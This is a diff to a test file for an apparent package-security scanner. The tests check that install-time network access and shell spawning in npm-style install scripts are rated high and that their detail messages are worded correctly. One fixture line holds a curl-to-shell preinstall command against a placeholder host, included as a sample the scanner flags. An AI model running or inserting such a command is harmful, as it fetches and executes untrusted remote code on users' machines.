@@ -68,6 +68,17 @@ test('install-time network or shell is high, for the script and the code it runs
     'shell:child_process.spawn': 'high',
   });
   expect(severities([fact('install-script:preinstall:curl -s https://x.example/a | sh')])).toEqual({ 'install-script:preinstall:curl -s https://x.example/a | sh': 'high' });
+  // Said once: not on the script itself, nor again where the check already said it.
+  const [script, fetching, spawning] = assignSeverities([
+    fact('install-script:postinstall:node setup.js', { detail: 'The `postinstall` script runs `node setup.js`.' }),
+    fact('network:module:https', { installTime: true, detail: 'setup.js loads `https`, and it runs at install time.' }),
+    fact('shell:child_process.spawn', { installTime: true, detail: 'setup.js starts programs.' }),
+  ]);
+  expect([script!.detail, fetching!.detail, spawning!.detail]).toEqual([
+    'The `postinstall` script runs `node setup.js`.',
+    'setup.js loads `https`, and it runs at install time.',
+    'setup.js starts programs; it runs at install time.',
+  ]);
   // The same capabilities at run time stay notices.
   expect(severities([fact('install-script:postinstall:node hi.js'), fact('shell:child_process.spawn')])).toEqual({ 'install-script:postinstall:node hi.js': 'medium', 'shell:child_process.spawn': 'medium' });
 });
